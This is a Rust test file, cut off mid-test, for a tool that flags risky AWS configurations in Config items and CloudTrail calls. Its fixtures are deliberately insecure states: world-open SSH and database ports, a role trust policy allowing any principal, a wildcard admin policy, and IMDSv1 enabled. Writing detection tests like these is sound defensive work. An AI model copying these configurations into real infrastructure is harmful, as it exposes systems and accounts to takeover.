//! Configuration items of AWS Config: the rules judge a state as they judge the call that leads to it.

use std::cell::RefCell;
use std::collections::BTreeSet;
use std::fs;
use std::io::{Cursor, Write as _};
use std::sync::Arc;

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::{Value, json};
use trailwarden::alert::{AlertPolicy, groups};
use trailwarden::app::{Configuration, ConfigurationFile};
use trailwarden::config_rule::Parameters;
use trailwarden::configuration_item::{
    Absence, Compliance, ConfigurationItem, ItemEvaluation, STATE_PACKS, decided_rules, mapped_types,
};
use trailwarden::finding::{Finding, Severity, ocsf};
use trailwarden::live_state::Snapshot;
use trailwarden::pipeline::{Cause, Evaluated, Input, Pipeline};
use trailwarden::rules::RuleSet;
use trailwarden::sources::{FetchError, FetchItem, OversizedItem, Reader};

use crate::support::{Bucket, directory, fixture, json as parsed, payload, payload_by_all_rules, root, run, stream};

const ACCOUNT: &str = "111122223333";
const REGION: &str = "eu-west-1";

/// A configuration item.
fn item(resource_type: &str, resource_id: &str, configuration: &Value) -> Value {
    json!({
        "relatedEvents": [],
        "relationships": [],
        "configuration": configuration,
        "supplementaryConfiguration": {},
        "tags": {},
        "configurationItemVersion": "1.3",
        "configurationItemCaptureTime": "2026-03-04T10:00:22.418Z",
        "configurationStateId": 1_772_618_422_418_u64,
        "awsAccountId": ACCOUNT,
        "configurationItemStatus": "OK",
        "resourceType": resource_type,
        "resourceId": resource_id,
        "resourceName": null,
        "ARN": null,
        "awsRegion": if resource_type.starts_with("AWS::IAM::") { "global" } else { REGION },
    })
}

fn message(item: &Value) -> Value {
    json!({
        "configurationItemDiff": null,
        "configurationItem": item,
        "notificationCreationTime": "2026-03-04T10:00:24.101Z",
        "messageType": "ConfigurationItemChangeNotification",
        "recordVersion": "1.3",
    })
}

/// The invocation of a Config rule.
fn invocation(message: &Value, left_scope: bool) -> Value {
    json!({
        "version": "1.0",
        "invokingEvent": message.to_string(),
        "ruleParameters": "{}",
        "resultToken": "token",
        "eventLeftScope": left_scope,
        "accountId": ACCOUNT,
        "configRuleName": "trailwarden",
    })
}

fn event(message: &Value) -> Value {
    json!({"version": "0", "detail-type": "Config Configuration Item Change", "source": "aws.config", "detail": message})
}

fn sns(message: &Value) -> Value {
    json!({"Type": "Notification", "TopicArn": "arn:aws:sns:eu-west-1:111122223333:config", "Message": message.to_string()})
}

/// A message of the delivery channel in a queue.
fn sqs(message: &Value) -> Value {
    json!({"Records": [{"messageId": "m", "receiptHandle": "r", "body": message.to_string(), "eventSource": "aws:sqs",
                        "eventSourceARN": "arn:aws:sqs:eu-west-1:111122223333:config", "awsRegion": REGION}]})
}

/// A batch of a log group that is the target of an EventBridge rule.
fn log_events(event: &Value) -> Value {
    json!({"messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": "g", "logStream": "s", "subscriptionFilters": [],
           "logEvents": [{"id": "a", "timestamp": 1, "message": event.to_string()}]})
}

/// A CloudTrail record.
fn call(source: &str, name: &str, request: &Value, response: &Value) -> Value {
    json!({
        "eventVersion": "1.11",
        "userIdentity": {"type": "IAMUser", "userName": "dana", "arn": "arn:aws:iam::111122223333:user/dana"},
        "eventTime": "2026-03-04T10:00:00Z",
        "eventSource": format!("{source}.amazonaws.com"),
        "eventName": name,
        "awsRegion": if source == "iam" { "us-east-1" } else { REGION },
        "requestParameters": request,
        "responseElements": response,
        "eventID": "5a92c9b9-0000-4000-8000-000000000001",
        "readOnly": false,
        "managementEvent": true,
        "recipientAccountId": ACCOUNT,
    })
}

/// A state, the call that leads to it, and the rules that judge both.
struct Case {
    resource_type: &'static str,
    resource_id: &'static str,
    configuration: Value,
    call: Value,
    rules: &'static [&'static str],
}

fn case(
    (resource_type, resource_id): (&'static str, &'static str),
    configuration: Value,
    call: Value,
    rules: &'static [&'static str],
) -> Case {
    Case { resource_type, resource_id, configuration, call, rules }
}

const GROUP: (&str, &str) = ("AWS::EC2::SecurityGroup", "sg-0123456789abcdef0");
const TRUST: &str =
    r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"sts:AssumeRole"}]}"#;

const ALL: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;

fn encoded(policy: &str) -> String {
    policy.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn cases() -> Vec<Case> {
    let world = |from: u16, to: u16| {
        json!({"ipProtocol": "tcp", "fromPort": from, "toPort": to, "ipv6Ranges": [], "prefixListIds": [],
               "userIdGroupPairs": [], "ipv4Ranges": [{"cidrIp": "0.0.0.0/0"}], "ipRanges": ["0.0.0.0/0"]})
    };
    let authorize = |permissions: Value| {
        let request = json!({"groupId": GROUP.1, "ipPermissions": {"items": permissions}});
        call("ec2", "AuthorizeSecurityGroupIngress", &request, &json!({"_return": true}))
    };
    let instance = ("AWS::EC2::Instance", "i-0123456789abcdef0");
    let interface = ("AWS::EC2::NetworkInterface", "eni-0123456789abcdef0");
    let run_instances = |interface: Value, described: Value| {
        let request = json!({"instancesSet": {"items": [{"minCount": 1, "maxCount": 1}]},
                             "networkInterfaceSet": {"items": [interface]}});
        call("ec2", "RunInstances", &request, &json!({"instancesSet": {"items": [described]}}))
    };
    vec![
        case(
            GROUP,
            json!({"groupName": "a", "ipPermissions": [world(22, 22)]}),
            authorize(json!([{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {},
                              "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}])),
            &["sg-ingress-world-admin"],
        ),
        // Two halves of the internet, as strings alone, as older items have them.
        case(
            GROUP,
            json!({"groupName": "a", "ipPermissions": [{"ipProtocol": "tcp", "fromPort": 5432, "toPort": 5432,
                   "ipRanges": ["0.0.0.0/1", "128.0.0.0/1"]}]}),
            authorize(json!([{"ipProtocol": "tcp", "fromPort": 5432, "toPort": 5432, "groups": {},
                              "ipRanges": {"items": [{"cidrIp": "0.0.0.0/1"}, {"cidrIp": "128.0.0.0/1"}]}}])),
            &["sg-ingress-world-database"],
        ),
        // All protocols have no ports.
        case(
            GROUP,
            json!({"groupName": "a", "ipPermissions": [{"ipProtocol": "-1", "fromPort": null, "toPort": null,
                   "ipv6Ranges": [{"cidrIpv6": "::/0"}], "ipRanges": []}]}),
            authorize(json!([{"ipProtocol": "-1", "groups": {}, "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}}])),
            &["sg-ingress-world-all"],
        ),
        case(
            GROUP,
            json!({"groupName": "a", "ipPermissions": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                   "ipv4Ranges": [{"cidrIp": "10.0.0.0/8"}], "userIdGroupPairs": [{"groupId": "sg-1", "userId": ACCOUNT}]}]}),
            authorize(json!([{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                              "groups": {"items": [{"groupId": "sg-1"}]}, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}])),
            &[],
        ),
        case(
            GROUP,
            json!({"groupName": "default", "ipPermissions": [], "ipPermissionsEgress": [{"ipProtocol": "-1"}]}),
            call("ec2", "AuthorizeSecurityGroupEgress", &json!({"groupId": GROUP.1}), &json!({"groupName": "default"})),
            &["default-security-group"],
        ),
        case(
            ("AWS::EC2::RouteTable", "rtb-0123456789abcdef0"),
            json!({"routes": [
                {"destinationCidrBlock": "10.0.0.0/16", "gatewayId": "local", "state": "active", "origin": "CreateRouteTable"},
                {"destinationCidrBlock": "0.0.0.0/0", "gatewayId": "igw-0123456789abcdef0", "state": "active"},
                {"destinationIpv6CidrBlock": "::/0", "gatewayId": "igw-0f", "state": "blackhole"},
                {"destinationCidrBlock": "192.0.2.0/24", "natGatewayId": "nat-0123456789abcdef0", "state": "active"},
            ]}),
            call(
                "ec2",
                "CreateRoute",
                &json!({"routeTableId": "rtb-0123456789abcdef0", "destinationCidrBlock": "0.0.0.0/0",
                        "gatewayId": "igw-0123456789abcdef0"}),
                &json!({"_return": true}),
            ),
            &["route-to-igw"],
        ),
        case(
            ("AWS::EC2::InternetGateway", "igw-0123456789abcdef0"),
            json!({"attachments": [{"state": "available", "vpcId": "vpc-0123456789abcdef0"}]}),
            call(
                "ec2",
                "AttachInternetGateway",
                &json!({"internetGatewayId": "igw-0123456789abcdef0", "vpcId": "vpc-0123456789abcdef0"}),
                &json!({"_return": true}),
            ),
            &["igw-attached"],
        ),
        case(
            ("AWS::EC2::Subnet", "subnet-0123456789abcdef0"),
            json!({"mapPublicIpOnLaunch": true, "assignIpv6AddressOnCreation": false, "defaultForAz": false}),
            call(
                "ec2",
                "ModifySubnetAttribute",
                &json!({"subnetId": "subnet-0123456789abcdef0", "mapPublicIpOnLaunch": {"value": true}}),
                &json!({"_return": true}),
            ),
            &["subnet-auto-public-ip"],
        ),
        case(
            ("AWS::EC2::VPC", "vpc-0123456789abcdef0"),
            json!({"isDefault": true, "cidrBlock": "172.31.0.0/16"}),
            call("ec2", "CreateDefaultVpc", &Value::Null, &json!({"vpc": {"vpcId": "vpc-0123456789abcdef0"}})),
            &["default-vpc-created"],
        ),
        case(
            ("AWS::EC2::EIP", "eipalloc-0123456789abcdef0"),
            json!({"allocationId": "eipalloc-0123456789abcdef0", "publicIp": "198.51.100.7", "instanceId": instance.1,
                   "networkInterfaceId": interface.1}),
            call(
                "ec2",
                "AssociateAddress",
                &json!({"allocationId": "eipalloc-0123456789abcdef0", "instanceId": instance.1}),
                &json!({"_return": true}),
            ),
            &["eip-associated"],
        ),
        case(
            interface,
            json!({"interfaceType": "interface", "requesterManaged": false, "sourceDestCheck": true,
                   "association": {"allocationId": "eipalloc-0123456789abcdef0", "publicIp": "198.51.100.7", "ipOwnerId": ACCOUNT}}),
            call(
                "ec2",
                "AssociateAddress",
                &json!({"allocationId": "eipalloc-0123456789abcdef0", "networkInterfaceId": interface.1}),
                &json!({"_return": true}),
            ),
            &["eip-associated"],
        ),
        case(
            interface,
            json!({"interfaceType": "interface", "sourceDestCheck": true,
                   "association": {"publicIp": "198.51.100.7", "ipOwnerId": "amazon"}}),
            call(
                "ec2",
                "ModifyNetworkInterfaceAttribute",
                &json!({"ModifyNetworkInterfaceAttributeRequest": {"NetworkInterfaceId": interface.1, "AssociatePublicIpAddress": true}}),
                &json!({"_return": true}),
            ),
            &["instance-public-ip-interface"],
        ),
        case(
            interface,
            json!({"interfaceType": "interface", "sourceDestCheck": false}),
            call(
                "ec2",
                "ModifyNetworkInterfaceAttribute",
                &json!({"networkInterfaceId": interface.1, "sourceDestCheck": {"value": false}}),
                &json!({"_return": true}),
            ),
            &["source-dest-check-off"],
        ),
        case(
            ("AWS::EC2::NetworkAcl", "acl-0123456789abcdef0"),
            json!({"entries": [
                {"ruleNumber": 100, "egress": false, "ruleAction": "allow", "protocol": "6", "cidrBlock": "0.0.0.0/0",
                 "portRange": {"from": 22, "to": 22}},
                {"ruleNumber": 200, "egress": true, "ruleAction": "allow", "protocol": "-1", "cidrBlock": "0.0.0.0/0"},
                {"ruleNumber": 32767, "egress": false, "ruleAction": "deny", "protocol": "-1", "cidrBlock": "0.0.0.0/0"},
            ]}),
            call(
                "ec2",
                "CreateNetworkAclEntry",
                &json!({"networkAclId": "acl-0123456789abcdef0", "ruleNumber": 100, "egress": false, "ruleAction": "allow",
                        "icmpTypeCode": {}, "portRange": {"from": 22, "to": 22}, "aclProtocol": "6", "cidrBlock": "0.0.0.0/0"}),
                &json!({"_return": true}),
            ),
            &["nacl-ingress-world-admin"],
        ),
        case(
            ("AWS::EC2::PrefixList", "pl-0123456789abcdef0"),
            json!({"PrefixListId": "pl-0123456789abcdef0", "PrefixListName": "all", "OwnerId": ACCOUNT, "AddressFamily": "IPv4",
                   "Entries": [{"Cidr": "0.0.0.0/0", "Description": ""}]}),
            call(
                "ec2",
                "ModifyManagedPrefixList",
                &json!({"ModifyManagedPrefixListRequest": {"PrefixListId": "pl-0123456789abcdef0", "AddEntry": {"Cidr": "0.0.0.0/0", "tag": 1}}}),
                &Value::Null,
            ),
            &["prefix-list-world"],
        ),
        case(
            ("AWS::EC2::VPCPeeringConnection", "pcx-0123456789abcdef0"),
            json!({"status": {"code": "active", "message": "Active"}, "vpcPeeringConnectionId": "pcx-0123456789abcdef0",
                   "requesterVpcInfo": {"ownerId": ACCOUNT, "vpcId": "vpc-0123456789abcdef0"},
                   "accepterVpcInfo": {"ownerId": "444455556666", "vpcId": "vpc-1123456789abcdef0"}}),
            call(
                "ec2",
                "CreateVpcPeeringConnection",
                &json!({"vpcId": "vpc-0123456789abcdef0", "peerVpcId": "vpc-1123456789abcdef0", "peerOwnerId": "444455556666"}),
                &json!({"vpcPeeringConnection": {"vpcPeeringConnectionId": "pcx-0123456789abcdef0"}}),
            ),
            &["vpc-peering-external"],
        ),
        case(
            ("AWS::EC2::VPCEndpointService", "vpce-svc-0123456789abcdef0"),
            json!({"serviceId": "vpce-svc-0123456789abcdef0", "acceptanceRequired": false}),
            call(
                "ec2",
                "ModifyVpcEndpointServiceConfiguration",
                &json!({"ModifyVpcEndpointServiceConfigurationRequest": {"ServiceId": "vpce-svc-0123456789abcdef0", "AcceptanceRequired": false}}),
                &Value::Null,
            ),
            &["endpoint-service-auto-accept"],
        ),
        case(
            instance,
            json!({"state": {"code": 16, "name": "running"}, "sourceDestCheck": true, "publicIpAddress": "198.51.100.7",
                   "metadataOptions": {"state": "applied", "httpTokens": "optional", "httpEndpoint": "enabled"},
                   "networkInterfaces": [{"networkInterfaceId": interface.1, "attachment": {"deviceIndex": 0}, "ipv6Addresses": [],
                                          "association": {"ipOwnerId": "amazon", "publicIp": "198.51.100.7"}}]}),
            run_instances(
                json!({"deviceIndex": 0, "associatePublicIpAddress": true}),
                json!({"instanceId": instance.1, "metadataOptions": {"httpTokens": "optional", "httpEndpoint": "enabled"}}),
            ),
            &["imdsv1-allowed-started", "instance-public-ip"],
        ),
        case(
            instance,
            json!({"state": {"code": 16, "name": "running"}, "sourceDestCheck": true,
                   "metadataOptions": {"httpTokens": "required", "httpEndpoint": "enabled"},
                   "networkInterfaces": [{"networkInterfaceId": interface.1, "ipv6Addresses": [{"ipv6Address": "2001:db8:1::7"}, {"ipv6Address": "2a05:d018::7"}]}]}),
            run_instances(
                json!({"deviceIndex": 0, "ipv6AddressCount": 1}),
                json!({"instanceId": instance.1, "metadataOptions": {"httpTokens": "required"}}),
            ),
            &["instance-public-ip-ipv6"],
        ),
        case(
            ("AWS::EC2::LaunchTemplate", "lt-0123456789abcdef0"),
            json!({"Id": "lt-0123456789abcdef0", "LaunchTemplateName": "web", "LaunchTemplateData": {
                "MetadataOptions": {"HttpTokens": "optional"},
                "NetworkInterfaces": [{"DeviceIndex": 0, "AssociatePublicIpAddress": true}]}}),
            call(
                "ec2",
                "CreateLaunchTemplate",
                &json!({"CreateLaunchTemplateRequest": {"LaunchTemplateName": "web", "LaunchTemplateData": {
                    "MetadataOptions": {"HttpTokens": "optional"},
                    "NetworkInterface": {"DeviceIndex": 0, "AssociatePublicIpAddress": true, "tag": 1}}}}),
                &json!({"CreateLaunchTemplateResponse": {"launchTemplate": {"launchTemplateId": "lt-0123456789abcdef0"}}}),
            ),
            &["imdsv1-allowed-template", "launch-template-public-ip"],
        ),
        case(
            (
                "AWS::AutoScaling::LaunchConfiguration",
                "arn:aws:autoscaling:eu-west-1:111122223333:launchConfiguration:1:launchConfigurationName/web",
            ),
            json!({"launchConfigurationName": "web", "associatePublicIpAddress": true, "metadataOptions": {"httpTokens": "required"}}),
            call(
                "autoscaling",
                "CreateLaunchConfiguration",
                &json!({"launchConfigurationName": "web", "associatePublicIpAddress": true, "metadataOptions": {"httpTokens": "required"}}),
                &Value::Null,
            ),
            &["launch-configuration-public-ip"],
        ),
        case(
            (
                "AWS::ElasticLoadBalancingV2::LoadBalancer",
                "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/1",
            ),
            json!({"loadBalancerArn": "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/1",
                   "loadBalancerName": "web", "scheme": "internet-facing", "type": "application"}),
            call(
                "elasticloadbalancing",
                "CreateLoadBalancer",
                &json!({"name": "web", "subnets": ["subnet-1"]}),
                &json!({"loadBalancers": [{"loadBalancerName": "web", "scheme": "internet-facing", "type": "application",
                        "loadBalancerArn": "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/1"}]}),
            ),
            &["elb-internet-facing"],
        ),
        case(
            ("AWS::ElasticLoadBalancing::LoadBalancer", "old-web"),
            json!({"loadBalancerName": "old-web", "scheme": "internet-facing", "dnsname": "old-web-1.eu-west-1.elb.amazonaws.com",
                   "listenerDescriptions": [{"listener": {"protocol": "TCP", "loadBalancerPort": 22, "instancePort": 22}, "policyNames": []}]}),
            call(
                "elasticloadbalancing",
                "CreateLoadBalancer",
                &json!({"loadBalancerName": "old-web", "scheme": "internet-facing",
                        "listeners": [{"protocol": "TCP", "loadBalancerPort": 22, "instancePort": 22}]}),
                &json!({"dNSName": "old-web-1.eu-west-1.elb.amazonaws.com"}),
            ),
            &["elb-internet-facing", "elb-listener-admin"],
        ),
        case(
            (
                "AWS::ElasticLoadBalancingV2::Listener",
                "arn:aws:elasticloadbalancing:eu-west-1:111122223333:listener/net/web/1/2",
            ),
            json!({"ListenerArn": "arn:aws:elasticloadbalancing:eu-west-1:111122223333:listener/net/web/1/2", "Port": 22,
                   "Protocol": "TCP", "LoadBalancerArn": "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/net/web/1"}),
            call(
                "elasticloadbalancing",
                "CreateListener",
                &json!({"loadBalancerArn": "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/net/web/1", "port": 22, "protocol": "TCP"}),
                &Value::Null,
            ),
            &["elb-listener-admin"],
        ),
        case(
            ("AWS::IAM::Role", "AROAEXAMPLEEXAMPLE123"),
            json!({"roleName": "open", "arn": "arn:aws:iam::111122223333:role/open", "assumeRolePolicyDocument": encoded(TRUST)}),
            call("iam", "UpdateAssumeRolePolicy", &json!({"roleName": "open", "policyDocument": TRUST}), &Value::Null),
            &["role-trust-public"],
        ),
        // The policies of the role are in the item, as live state adds them to a record.
        case(
            ("AWS::IAM::Role", "AROAEXAMPLEEXAMPLE123"),
            json!({"roleName": "open", "arn": "arn:aws:iam::111122223333:role/open", "assumeRolePolicyDocument": encoded(TRUST),
                   "rolePolicyList": [{"policyName": "all", "policyDocument": encoded(ALL)}],
                   "attachedManagedPolicies": [{"policyName": "ReadOnlyAccess", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}]}),
            {
                let request = json!({"roleName": "open", "policyDocument": TRUST});
                let mut call = call("iam", "UpdateAssumeRolePolicy", &request, &Value::Null);
                call["liveState"] = json!({"role": {"arn": "arn:aws:iam::111122223333:role/open", "assumeRolePolicyDocument": TRUST,
                                                    "policies": [{"policyName": "all", "document": ALL}]}});
                call
            },
            &["role-trust-public", "role-trust-public-admin"],
        ),
        case(
            ("AWS::EC2::NatGateway", "nat-0123456789abcdef0"),
            json!({"connectivityType": "public", "natGatewayAddresses": [{"publicIp": "198.51.100.7"}]}),
            call(
                "ec2",
                "CreateNatGateway",
                &json!({"CreateNatGatewayRequest": {"SubnetId": "subnet-1"}}),
                &Value::Null,
            ),
            &[],
        ),
        case(
            ("AWS::EC2::EgressOnlyInternetGateway", "eigw-0123456789abcdef0"),
            json!({"attachments": [{"state": "attached", "vpcId": "vpc-1"}]}),
            call(
                "ec2",
                "CreateEgressOnlyInternetGateway",
                &json!({"CreateEgressOnlyInternetGatewayRequest": {"VpcId": "vpc-1"}}),
                &Value::Null,
            ),
            &[],
        ),
        case(
            ("AWS::EC2::VPCEndpoint", "vpce-0123456789abcdef0"),
            json!({"vpcEndpointType": "Interface", "state": "available"}),
            call("ec2", "CreateVpcEndpoint", &json!({"CreateVpcEndpointRequest": {"VpcId": "vpc-1"}}), &Value::Null),
            &[],
        ),
        case(
            ("AWS::EC2::VPNGateway", "vgw-0123456789abcdef0"),
            json!({"state": "available", "vpcAttachments": [{"state": "attached", "vpcId": "vpc-1"}]}),
            call(
                "ec2",
                "AttachVpnGateway",
                &json!({"vpcId": "vpc-1", "vpnGatewayId": "vgw-0123456789abcdef0"}),
                &Value::Null,
            ),
            &[],
        ),
    ]
}

/// Rule, status and problem of each finding that judges a state.
fn problems(findings: &[Finding]) -> BTreeSet<(String, &'static str, String)> {
    let judging =
        findings.iter().filter(|one| one.rule.pack.as_deref().is_some_and(|pack| STATE_PACKS.contains(&pack)));
    judging.map(|one| (one.rule.name.clone(), one.status_word(), one.uid())).collect()
}

#[test]
fn a_state_has_the_findings_of_the_call_that_leads_to_it_however_it_arrives() {
    for Case { resource_type, resource_id, configuration, call, rules } in cases() {
        let item = item(resource_type, resource_id, &configuration);
        let message = message(&item);
        // The pipeline ignores live state in a record that it is given.
        let of_call = match call.get("liveState") {
            Some(_) => payload_by_all_rules(&call.to_string()),
            None => payload(&call.to_string()),
        };
        let rules: BTreeSet<&str> = rules.iter().copied().collect();
        for (form, text) in [
            ("message", message.to_string()),
            ("rule", invocation(&message, false).to_string()),
            ("sns", sns(&message).to_string()),
            ("event", event(&message).to_string()),
            ("snapshot", json!({"fileVersion": "1.0", "configurationItems": [item]}).to_string()),
            ("queue", sqs(&sns(&message)).to_string()),
            ("log events", log_events(&event(&message)).to_string()),
        ] {
            let of_item = payload(&text);
            let name = format!("{resource_type} as {form}");
            assert_eq!(of_item.reasons(), Vec::<String>::new(), "{name}");
            let named: BTreeSet<&str> = of_item.findings.iter().map(|one| one.rule.name.as_str()).collect();
            assert_eq!(named, rules, "{name}");
            assert_eq!(problems(&of_item.findings), problems(&of_call.findings), "{name}");
            assert_eq!(of_item.tally.received, 1, "{name}");
            assert_eq!(of_item.tally.matched, u64::from(!rules.is_empty()), "{name}");
            let [evaluation] = of_item.items.as_slice() else { panic!("{name}: {:?}", of_item.items) };
            let expected = if rules.is_empty() { Compliance::Compliant } else { Compliance::NonCompliant };
            assert_eq!(evaluation.compliance, expected, "{name}");
            assert_eq!(stream(text.as_bytes()).findings, of_item.findings, "{name} in a file");
        }
    }
}

#[test]
fn each_mapped_type_is_in_the_table_and_in_the_document() {
    let mapped: BTreeSet<&str> = mapped_types().collect();
    let tested: BTreeSet<&str> = cases().iter().map(|case| case.resource_type).collect();
    assert_eq!(tested, mapped);
    let document = fs::read_to_string(root().join("docs/config.md")).unwrap();
    let rows = document.lines().filter_map(|line| line.strip_prefix("| `AWS::")?.split('`').next());
    let listed: BTreeSet<String> = rows.map(|row| format!("AWS::{row}")).collect();
    assert_eq!(listed, mapped.into_iter().map(str::to_owned).collect());
}

#[test]
fn a_rule_about_a_call_has_no_finding_about_a_state() {
    for Case { resource_type, resource_id, configuration, call, .. } in cases() {
        let text = message(&item(resource_type, resource_id, &configuration)).to_string();
        for finding in payload_by_all_rules(&text).findings {
            let pack = finding.rule.pack.as_deref().unwrap_or_default();
            assert!(STATE_PACKS.contains(&pack), "{} about {resource_type}", finding.rule.name);
        }
        // The test of the test: of the calls, other packs have findings.
        if resource_type == "AWS::EC2::NatGateway" {
            let named: Vec<String> =
                payload_by_all_rules(&call.to_string()).findings.iter().map(|one| one.rule.name.clone()).collect();
            assert_eq!(named, ["blocked-action"]);
        }
    }
}

#[test]
fn every_form_of_an_item_is_the_same_message() {
    let names = ["notification", "rule", "sns-message", "event", "snapshot", "resource-history", "item"];
    let uids: BTreeSet<String> = names
        .iter()
        .map(|name| {
            let path = fixture(&format!("envelopes/config-{name}.json"));
            let found = stream(&fs::read(path).unwrap());
            assert_eq!(found.reasons(), Vec::<String>::new(), "{name}");
            assert_eq!(found.findings.len(), 1, "{name}");
            found.findings[0].message_uid()
        })
        .collect();
    assert_eq!(uids.len(), 1, "{uids:?}");
}

#[test]
fn a_finding_claims_no_call_and_no_caller() {
    let mut item = parsed(&fixture("envelopes/config-notification.json"));
    item["configurationItem"]["relatedEvents"] = json!(["5a92c9b9-0000-4000-8000-000000000001"]);
    let found = payload(&item.to_string());
    let finding = &found.findings[0];
    insta::assert_snapshot!(finding.full_message(), @"An unknown caller opened security group sg-0123456789abcdef0 to the whole internet: tcp port 22 (ssh) from 0.0.0.0/0. AWS Config recorded this state at 2026-03-04T10:00:22Z. It does not record who caused it. Related CloudTrail events: 5a92c9b9-0000-4000-8000-000000000001.");
    let document = ocsf::document(finding, jiff::Timestamp::UNIX_EPOCH);
    assert_eq!(crate::ocsf::faults(&document), Vec::<String>::new());
    assert_eq!(document["metadata"]["log_name"], "AWS Config");
    assert_eq!(document["metadata"]["log_provider"], "AWS");
    assert_eq!(document["finding_info"]["data_sources"], json!(["AWS Config"]));
    assert_eq!(document["cloud"]["account"]["uid"], ACCOUNT);
    assert_eq!(document["cloud"]["region"], REGION);
    let evidence = &document["evidences"][0];
    assert_eq!(evidence["name"], "Configuration item");
    assert_eq!((evidence.get("actor"), evidence.get("api"), evidence.get("src_endpoint")), (None, None, None));
    assert_eq!(document.pointer("/unmapped/action"), None);
    let related = document["finding_info"]["related_events"].as_array().unwrap();
    assert_eq!(related[0]["uid"], finding.origin.event_id);
    assert_eq!(related[1], json!({"uid": "5a92c9b9-0000-4000-8000-000000000001"}));
    // The record in a finding is the item as received, not the derived call.
    let with_records = Pipeline::new(RuleSet::load(&[]).unwrap()).with_records(true);
    let found = with_records.gather("payload", Input::Payload(&item.to_string()));
    let record: Value = serde_json::from_str(found.findings[0].record.as_deref().unwrap()).unwrap();
    assert_eq!(record, item["configurationItem"]);
    // A later state of the same resource is another message about the same problem.
    item["configurationItem"]["configurationStateId"] = json!(1_772_618_422_419_u64);
    let later = payload(&item.to_string()).findings.remove(0);
    assert_eq!(later.uid(), finding.uid());
    assert_ne!(later.message_uid(), finding.message_uid());
}

#[test]
fn what_people_read_says_that_the_caller_is_unknown() {
    let path = fixture("envelopes/config-rule.json");
    let output = run(&["evaluate", path.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    insta::assert_snapshot!("config_item_text", String::from_utf8(output.stdout).unwrap());
}

#[test]
fn a_rule_is_explained_on_the_calls_that_lead_to_a_state() {
    let path = fixture("envelopes/config-item.json");
    let explain = |rule: &str| run(&["explain", "--rule", rule, path.to_str().unwrap()]);
    let output = explain("sg-ingress-world-admin");
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.contains("AuthorizeSecurityGroupIngress of ec2.amazonaws.com"), "{text}");
    assert!(text.contains(": matches\n"), "{text}");
    assert_eq!(output.status.code(), Some(0));
    let output = explain("blocked-action");
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8(output.stderr).unwrap().contains("only rules of the packs exposure and trust judge it"));
}

#[test]
fn an_alert_names_no_caller_and_leads_to_no_event() {
    let found = payload(&parsed(&fixture("envelopes/config-rule.json")).to_string());
    let all = groups(found.findings.into_iter().map(Arc::new), &AlertPolicy::at_least(Severity::Low));
    let [group] = all.as_slice() else { panic!("{} alerts", all.len()) };
    let alert = group.alert().unwrap();
    let email = alert.email("2026-03-04T10:15:00Z".parse().unwrap());
    assert!(!email.contains("cloudtrailv2"), "{email}");
    insta::assert_snapshot!("config_item_email", format!("{}\n\n{email}", alert.subject()));
}

#[test]
fn the_compliance_of_items_is_what_a_config_rule_answers() {
    let text = |evaluations: &[ItemEvaluation]| {
        let line = |one: &ItemEvaluation| {
            format!(
                "{} {} {}: {}",
                one.resource_type,
                one.resource_id,
                one.compliance.as_str(),
                one.annotation.as_deref().unwrap_or("-")
            )
        };
        evaluations.iter().map(line).collect::<Vec<_>>().join("\n")
    };
    let routes = json!({"routes": [
        {"destinationCidrBlock": "0.0.0.0/0", "gatewayId": "igw-0123456789abcdef0", "state": "active"},
        {"destinationIpv6CidrBlock": "::/0", "gatewayId": "igw-0123456789abcdef0", "state": "active"},
    ]});
    let mut deleted = item(GROUP.0, GROUP.1, &Value::Null);
    deleted["configurationItemStatus"] = json!("ResourceDeleted");
    let mut not_recorded = deleted.clone();
    not_recorded["configurationItemStatus"] = json!("ResourceNotRecorded");
    let undecided = json!({"groupName": "a", "ipPermissions": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                           "prefixListIds": [{"prefixListId": "pl-0123456789abcdef0"}], "ipv4Ranges": []}]});
    let found = payload(
        &json!({"fileVersion": "1.0", "configSnapshotId": "a", "configurationItems": [
            item("AWS::EC2::RouteTable", "rtb-0123456789abcdef0", &routes),
            item(GROUP.0, GROUP.1, &json!({"groupName": "a", "ipPermissions": []})),
            deleted,
            not_recorded,
            item("AWS::S3::Bucket", "b", &json!({"name": "b"})),
            item(GROUP.0, GROUP.1, &undecided),
        ]})
        .to_string(),
    );
    assert_eq!(found.reasons(), Vec::<String>::new());
    insta::assert_snapshot!(text(&found.items), @"
    AWS::EC2::RouteTable rtb-0123456789abcdef0 NON_COMPLIANT: An unknown caller routed 0.0.0.0/0 of route table rtb-0123456789abcdef0 to the internet gateway igw-0123456789abcdef0. (+1)
    AWS::EC2::SecurityGroup sg-0123456789abcdef0 COMPLIANT: -
    AWS::EC2::SecurityGroup sg-0123456789abcdef0 NOT_APPLICABLE: -
    AWS::EC2::SecurityGroup sg-0123456789abcdef0 NOT_APPLICABLE: -
    AWS::S3::Bucket b NOT_APPLICABLE: -
    AWS::EC2::SecurityGroup sg-0123456789abcdef0 COMPLIANT: Undecided: An unknown caller called an operation such as AuthorizeSecurityGroupIngress on sg-0123456789abcdef0 with the prefix list pl-0123456789abcdef0; the record does not contain its entries.
    ");
    assert_eq!(found.tally.received, 6);
    assert!(found.items.iter().flat_map(|item| &item.annotation).all(|text| text.chars().count() <= 256));
    // Outside the scope of the rule, nothing counts.
